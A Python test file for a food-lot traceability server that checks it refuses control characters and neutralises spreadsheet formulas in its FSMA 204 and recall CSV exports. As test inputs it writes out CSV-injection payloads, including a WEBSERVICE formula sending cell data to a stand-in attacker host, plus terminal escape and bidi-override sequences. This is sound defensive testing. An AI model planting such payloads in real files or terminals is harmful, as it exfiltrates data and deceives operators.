"""A station token cannot plant spreadsheet formulas or terminal escape sequences in central's output
(tester W7). Before: a receipt whose supplier was `=HYPERLINK("http://evil.example/x","Millers Ltd")`
and a shipment to customer `=WEBSERVICE(...)` were applied and written as live formulas into the FSMA
204 CSV and the recall's customers CSV; a supplier `Evil\\x1b[2J\\x1b[31mCorp` and a supplier lot with
an OSC title sequence were stored and `lotscan central trace` printed them to the operator's terminal;
a reason with CR/LF and U+202E (right-to-left override) was stored.

Now: central refuses any control character (C0, DEL, C1, bidi embeddings/overrides/isolates) in a
request's text with the 422 that already refused NUL, naming the field; only an event's `raw` (the
scan, GS separators and all) keeps them. Text that is legal but starts like a formula (`=1+1` is a
GS1 lot number) is written to every CSV with a `'` in front; central's CLI tables show any control
character already stored as an escape. Each test is the attack over HTTP to central's app, on SQLite
and PostgreSQL, and the export through the `lotscan` command.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from sqlalchemy import select, update

from lotscan.central.db import write_tx
from lotscan.central.schema import received_events
from lotscan.central.trace import fsma as fsma_columns
from lotscan.cli.main import cli as main
from lotscan.store.schema import Lot
from tests.central.support import Central, auth, now_iso

HYPERLINK = '=HYPERLINK("http://evil.example/x","Millers Ltd")'
WEBSERVICE = '=WEBSERVICE("http://evil.example/"&A1)'
FORMULA_LOT = "=1+1"  # a legal GS1 lot number (set 82)


def _event(seq: int, type_: str, payload: dict[str, Any], raw: str | None = None) -> dict[str, Any]:
    event = {
        "id": str(uuid.uuid4()),
        "seq": seq,
        "operator": "100",
        "occurred_at": now_iso(),
        "type": type_,
        "payload": payload,
    }
    if raw is not None:
        event["raw"] = raw
    return event


def _receipt(lot_code: str, **fields: Any) -> dict[str, Any]:
    return {"item": "FLOUR", "lot": lot_code, "qty": 5, "location": "DOCK", "new_lot": True, **fields}


def _push_text(central: Central, token: str, events: list[dict[str, Any]], *, ascii_only: bool) -> Any:
    """The body as JSON text: with every non-ASCII character escaped (`\\u202e`) or sent as UTF-8."""
    body = json.dumps({"station_time": now_iso(), "events": events}, ensure_ascii=ascii_only)
    headers = {**auth(token), "content-type": "application/json"}
    return central.http.post("/api/v1/sync/push", content=body.encode(), headers=headers)


@pytest.mark.parametrize("ascii_only", [True, False], ids=["escaped", "utf8"])
@pytest.mark.parametrize(
    ("field", "text", "shown"),
    [
        ("supplier", "Evil\x1b[2J\x1b[31mCorp", "\\u001b"),
        ("supplier_lot", "X\x1b]0;pwned\x07", "\\u001b"),
        ("supplier", "Millers\tLtd", "\\u0009"),
        ("supplier", "Millers\x7fLtd", "\\u007f"),
        ("supplier", "Millers\x9b31mLtd", "\\u009b"),  # C1 CSI
        ("supplier", "Millers \u202eevil", "\\u202e"),
        ("lot", "P2\u2066ESC", "\\u2066"),
    ],
)
def test_a_control_character_in_pushed_text_is_refused_naming_the_field(
    central: Central, field: str, text: str, shown: str, ascii_only: bool
) -> None:
    token = central.enroll("P1")[1]
    events = [_event(1, "stock.received", _receipt("P2ESC1", **{field: text}))]
    response = _push_text(central, token, events, ascii_only=ascii_only)
    assert response.status_code == 422, response.text
    message = response.json()["message"]
    assert f"body.events.0.payload.{field}" in message and shown in message and "remove it" in message
    with central.engine.connect() as conn:
        assert conn.execute(select(received_events.c.id)).first() is None


def test_a_reason_with_line_breaks_and_a_right_to_left_override_is_refused(central: Central) -> None:
    token = central.enroll("P1")[1]
    change = {"item": "FLOUR", "lot": "F-EARLY", "to": "hold", "reason": "line1\r\nline2\u202eevil"}
    response = _push_text(central, token, [_event(1, "lot.status_changed", change)], ascii_only=True)
    assert response.status_code == 422 and "body.events.0.payload.reason" in response.json()["message"]
    admin = central.http.post(
        "/api/v1/admin/lots/F-EARLY/status",
        json={"action": "hold", "reason": "mould\x1b]8;;http://evil.example\x07"},
        headers=central.admin(),
    )
    assert admin.status_code == 422 and "body.reason" in admin.json()["message"]
    query = central.http.get("/api/v1/trace/F-EARLY?item=FL%1bOUR", headers=auth(token))
    assert query.status_code == 422 and "query.item" in query.json()["message"]


@pytest.mark.parametrize("ascii_only", [True, False], ids=["escaped", "utf8"])
def test_a_scan_keeps_its_gs_separators(central: Central, ascii_only: bool) -> None:
    """The raw scan is what the scanner sent: GS (and RS/EOT of ISO 15434) are part of it."""
    token = central.enroll("P1")[1]
    raw = "]d2\x1e\x0401095212340014781017250331\x1d10RAWGS1\x04"
    events = [_event(1, "stock.received", _receipt("RAWGS1"), raw=raw)]
    response = _push_text(central, token, events, ascii_only=ascii_only)
    assert response.status_code == 200, response.text
    assert response.json()["results"][0]["outcome"] == "applied"
    smuggled = [_event(2, "stock.received", _receipt("RAWGS2", supplier="A\x1dB"), raw=raw)]
    refused = _push_text(central, token, smuggled, ascii_only=ascii_only)
    assert refused.status_code == 422 and "payload.supplier" in refused.json()["message"]


def _cli(*args: str) -> str:
    result = CliRunner().invoke(main, list(args))
    assert result.exit_code == 0, result.output
    return result.stdout


def test_formula_text_is_written_to_every_csv_as_text(central: Central, tmp_path: Path) -> None:
    token = central.enroll("P1")[1]
    events = [
        _event(1, "stock.received", _receipt(FORMULA_LOT, supplier=HYPERLINK, supplier_lot=FORMULA_LOT)),
        _event(
            2,
            "stock.shipped",
            {"item": "FLOUR", "lot": FORMULA_LOT, "qty": 1, "location": "DOCK", "customer": WEBSERVICE},
        ),
    ]
    results = _push_text(central, token, events, ascii_only=True).json()["results"]
    assert [r["outcome"] for r in results] == ["applied", "applied"], results

    fsma = tmp_path / "fsma.csv"
    _cli("central", "export", "fsma204", "--tlc", FORMULA_LOT, "--format", "csv", "--out", str(fsma),
         "--db", central.url)  # fmt: skip
    text = fsma.read_text()
    assert HYPERLINK not in text.replace("'=HYPERLINK", "") and "'=HYPERLINK" in text
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "-", "\t", "\r")], cells
    # the TLC reads back as the lot number once the one leading apostrophe is removed
    tlc_column = rows[0].index(fsma_columns.TLC)
    assert {row[tlc_column].removeprefix("'") for row in rows[1:]} == {FORMULA_LOT}

    out = tmp_path / "recall"
    _cli("central", "recall", FORMULA_LOT, "--reason", "tw formula", "--dry-run", "--out", str(out),
         "--db", central.url)  # fmt: skip
    written = sorted(out.glob("*.csv"))
    assert written, list(out.iterdir())
    for path in written:
        for row in csv.reader(path.open()):
            assert not [c for c in row if c[:1] in ("=", "+", "@", "\t", "\r")], (path.name, row)
    assert "'" + WEBSERVICE in (out / "customers.csv").read_text().replace('""', '"')

    traced = _cli("central", "trace", FORMULA_LOT, "--format", "csv", "--db", central.url)
    assert "'=HYPERLINK" in traced and ",=" not in traced


def test_central_trace_shows_stored_escape_sequences_as_escapes(central: Central) -> None:
    """Text stored before central refused control characters is shown, never passed to the terminal."""
    token = central.enroll("P1")[1]
    results = _push_text(central, token, [_event(1, "stock.received", _receipt("P2ESC1"))], ascii_only=True)
    assert results.json()["results"][0]["outcome"] == "applied"
    with write_tx(central.engine) as conn:
        stored_before = "Evil\x1b[2J\x1b]0;pwned\x07Corp"
        conn.execute(update(Lot).where(Lot.code == "P2ESC1").values(supplier=stored_before))
    shown = _cli("central", "trace", "P2ESC1", "--db", central.url)
    assert "\x1b" not in shown and "\x07" not in shown
    assert "Evil\\u001b[2J\\u001b]0;pwned\\u0007Corp" in shown
